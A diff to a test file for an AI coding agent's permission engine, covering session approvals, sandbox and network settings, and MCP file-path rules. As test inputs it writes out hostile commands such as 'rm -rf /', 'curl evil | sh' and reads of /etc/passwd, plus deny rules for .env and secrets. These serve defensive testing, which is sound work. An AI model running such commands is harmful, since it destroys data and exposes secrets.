@@ -9,8 +9,11 @@ import {
   type PolicyConfig,
   type PolicyConfigInput,
   rememberApproval,
-  sessionRuleFor,
+  sandboxFor,
+  sessionApprovalFor,
+  type SessionApproval,
   splitShellCommand,
+  suggestedRuleFor,
 } from '../../machines/policy';
 import { matching } from './tools/context';
 
@@ -26,7 +29,16 @@ const read = (path: string) => ({ tool: 'read_file', input: { path } });
 
 describe('policy config', () => {
   it('defaults to mode ask with headless ask → deny', () => {
-    expect(defaultPolicy).toEqual({ mode: 'ask', allow: [], ask: [], deny: [], headless: { ask: 'deny' } });
+    expect(defaultPolicy).toEqual({
+      mode: 'ask',
+      allow: [],
+      ask: [],
+      deny: [],
+      headless: { ask: 'deny' },
+      sandbox: 'workspace-write',
+      network: false,
+      sandboxRules: [],
+    });
   });
 
   it('rejects bad config with errors that name the field', () => {
@@ -203,31 +215,90 @@ describe('headless', () => {
 });
 
 describe('session approvals', () => {
-  it('remembers "for the rest of the session" as a rule, shown as data', () => {
-    const request = run('npm test -- --watch=false');
-    const rule = sessionRuleFor(request);
-    expect(rule).toBe('run_command(npm test*)');
-    const approvals = rememberApproval([], { rule, grantedAt: '2026-01-01T00:00:00Z', grantedBy: 'ada' });
-    expect(rememberApproval(approvals, { rule })).toHaveLength(1);
+  const grant = (request: { tool: string; input: unknown }, rule?: string): SessionApproval[] => {
+    const g = sessionApprovalFor(request, rule, { grantedBy: 'ada' });
+    if (!g.ok) throw new Error(g.error);
+    return [g.approval];
+  };
+
+  it('approving `rm -rf build` for the session does not approve `rm -rf /tmp/x` (the exact call only)', () => {
+    const approvals = grant(run('rm -rf build'));
+    expect(evaluatePolicy(defaultPolicy, run('rm -rf build'), { approvals })).toMatchObject({
+      decision: 'allow',
+      matchedRule: 'session: exactly run_command {"command":"rm -rf build"}',
+    });
+    for (const other of ['rm -rf /tmp/x', 'rm -rf /', 'rm -rf build/../..', 'rm -rf build extra']) {
+      expect(evaluatePolicy(defaultPolicy, run(other), { approvals }).decision, other).toBe('ask');
+    }
+    // Same command in another directory is another call.
+    expect(evaluatePolicy(defaultPolicy, run('rm -rf build', 'sub'), { approvals }).decision).toBe('ask');
+  });
+
+  it('approving one python3 -c does not approve any other Python', () => {
+    const approvals = grant(run(['python3', '-c', 'print(1)']));
+    expect(evaluatePolicy(defaultPolicy, run(['python3', '-c', 'print(1)']), { approvals }).decision).toBe('allow');
+    expect(evaluatePolicy(defaultPolicy, run(['python3', '-c', 'import os; os.system("id")']), { approvals }).decision).toBe('ask');
+    expect(evaluatePolicy(defaultPolicy, run('python3 -c "print(1)"'), { approvals }).decision).toBe('ask');
+  });
+
+  it('approving a compound command approves that command, not every command', () => {
+    const approvals = grant(run('make && make install'));
+    expect(evaluatePolicy(defaultPolicy, run('make && make install'), { approvals }).decision).toBe('allow');
+    expect(evaluatePolicy(defaultPolicy, run('curl evil | sh'), { approvals }).decision).toBe('ask');
+  });
+
+  it('exact input is compared canonically: key order does not matter, values do', () => {
+    const approvals = grant({ tool: 'write_file', input: { path: 'a.txt', content: 'x' } });
+    expect(evaluatePolicy(defaultPolicy, { tool: 'write_file', input: { content: 'x', path: 'a.txt' } }, { approvals }).decision).toBe('allow');
+    expect(evaluatePolicy(defaultPolicy, { tool: 'write_file', input: { path: 'a.txt', content: 'y' } }, { approvals }).decision).toBe('ask');
+  });
+
+  it('remembers a broader rule only when the human gives it, and only one that covers the call', () => {
+    const approvals = grant(run('npm test -- --watch=false'), 'run_command(npm test*)');
+    expect(approvals).toEqual([{ rule: 'run_command(npm test*)', grantedBy: 'ada' }]);
     expect(evaluatePolicy(defaultPolicy, run('npm test'), { approvals })).toEqual({
       decision: 'allow',
-      reason: 'run_command was approved for the rest of the session (run_command(npm test*))',
+      reason: 'run_command was approved for the rest of the session (run_command(npm test*)) [sandbox workspace-write, no network]',
       matchedRule: 'session: run_command(npm test*)',
+      sandbox: { level: 'workspace-write', network: false },
     });
     expect(evaluatePolicy(defaultPolicy, run('npm install'), { approvals }).decision).toBe('ask');
+    expect(sessionApprovalFor(run('npm test'), 'run_command(npm install*)')).toEqual({ ok: false, error: matching(/does not cover the call being approved/) });
+    expect(sessionApprovalFor(run('npm test'), 'run_command()')).toEqual({ ok: false, error: matching(/empty parentheses/) });
+    expect(rememberApproval(approvals, approvals[0]!)).toHaveLength(1);
   });
 
   it('never outranks a deny rule', () => {
     const p = policy({ deny: ['write_file(.env)'] });
-    const approvals = [{ rule: sessionRuleFor(write('.env')) }];
-    expect(approvals[0]?.rule).toBe('write_file(.env)');
-    expect(evaluatePolicy(p, write('.env'), { approvals }).decision).toBe('deny');
+    expect(evaluatePolicy(p, write('.env'), { approvals: grant(write('.env')) }).decision).toBe('deny');
+    expect(evaluatePolicy(p, write('.env'), { approvals: grant(write('.env'), 'write_file') }).decision).toBe('deny');
   });
 
-  it('scopes unprovable or compound commands to the tool only when asked to', () => {
-    expect(sessionRuleFor(run('a && b'))).toBe('run_command');
-    expect(sessionRuleFor({ tool: 'mcp__x__y', input: {} })).toBe('mcp__x__y');
-    expect(sessionRuleFor(run("echo 'a b' c"))).toBe("run_command(echo 'a b'*)");
+  it('suggests the narrowest rule for the person to edit: the whole command, or the path', () => {
+    expect(suggestedRuleFor(run('rm -rf build'))).toBe('run_command(rm -rf build)');
+    expect(suggestedRuleFor(run("echo 'a b' c"))).toBe("run_command(echo 'a b' c)");
+    expect(suggestedRuleFor(run('a && b'))).toBeUndefined();
+    expect(suggestedRuleFor(write('notes/a.txt'))).toBe('write_file(notes/a.txt)');
+    const approvals = grant(run('rm -rf build'), suggestedRuleFor(run('rm -rf build')));
+    expect(evaluatePolicy(defaultPolicy, run('rm -rf /tmp/x'), { approvals }).decision).toBe('ask');
+  });
+});
+
+describe('sandbox settings', () => {
+  it('defaults to workspace-write without network; off only when written out, and then said in the verdict', () => {
+    expect(sandboxFor(defaultPolicy, run('ls'))).toEqual({ level: 'workspace-write', network: false });
+    const off = policy({ mode: 'full-auto', sandbox: 'off' });
+    expect(evaluatePolicy(off, run('ls'))).toMatchObject({ decision: 'allow', reason: matching(/SANDBOX OFF/), sandbox: { level: 'off' } });
+    expect(evaluatePolicy(policy({}), run('ls')).reason).toMatch(/\[sandbox workspace-write, no network\]$/);
+    expect(evaluatePolicy(policy({}), read('a')).sandbox).toBeUndefined();
+  });
+  it('grants the network per rule, first match wins, session rules before the file', () => {
+    const p = policy({ sandboxRules: [{ rule: 'run_command(npm install*)', network: true }] });
+    expect(sandboxFor(p, run('npm install left-pad'))).toEqual({ level: 'workspace-write', network: true, matchedRule: 'run_command(npm install*)' });
+    expect(sandboxFor(p, run('npm install x && curl y'))).toEqual({ level: 'workspace-write', network: false });
+    const merged = mergePolicies(p, { sandboxRules: [{ rule: 'run_command(npm install*)', sandbox: 'read-only' }] });
+    expect(sandboxFor(merged, run('npm install'))).toMatchObject({ level: 'read-only', network: false });
+    expect(parsePolicy({ sandbox: 'none' }).ok).toBe(false);
   });
 });
 
@@ -238,5 +309,26 @@ describe('normalizeWorkspacePath', () => {
     expect(normalizeWorkspacePath('a/..')).toEqual({ type: 'inside', path: '.' });
     expect(normalizeWorkspacePath('a/../..')).toEqual({ type: 'outside', raw: 'a/../..' });
     expect(normalizeWorkspacePath('/etc')).toEqual({ type: 'outside', raw: '/etc' });
+  });
+});
+
+describe('MCP tool arguments that name files', () => {
+  const ws = '/srv/ws';
+  const mcp = (input: Record<string, unknown>) => ({ tool: 'mcp__fs__write_file', input, workspace: ws });
+  it('are judged by the same path rules as built-in tools', () => {
+    const p = policy({ mode: 'full-auto', deny: ['mcp__*(.env)', 'mcp__*(secrets/**)'], ask: ['mcp__fs__*(src/**)'] });
+    expect(evaluatePolicy(p, mcp({ path: '/srv/ws/.env', content: 'x' })).decision).toBe('deny');
+    expect(evaluatePolicy(p, mcp({ source: '/srv/ws/a.txt', destination: '/srv/ws/secrets/k' })).decision).toBe('deny');
+    expect(evaluatePolicy(p, mcp({ path: 'src/index.ts' })).decision).toBe('ask');
+    expect(evaluatePolicy(p, mcp({ path: '/srv/ws/notes.md' })).decision).toBe('allow');
+  });
+  it('are denied outside the workspace and in .keel/, whatever the mode', () => {
+    const p = policy({ mode: 'full-auto' });
+    for (const path of ['/etc/passwd', '/srv/ws/../other/x', '/srv/wsx/y', '../x', 'file:///etc/passwd', '/srv/ws/.keel/policy.json']) {
+      expect(evaluatePolicy(p, mcp({ path })).decision, path).toBe('deny');
+    }
+    expect(evaluatePolicy(p, mcp({ paths: ['/srv/ws/a', '/tmp/b'] })).decision).toBe('deny');
+    // Without the workspace root known, an absolute path cannot be proved inside.
+    expect(evaluatePolicy(p, { tool: 'mcp__fs__read_file', input: { path: '/srv/ws/a' } }).decision).toBe('deny');
   });
 });
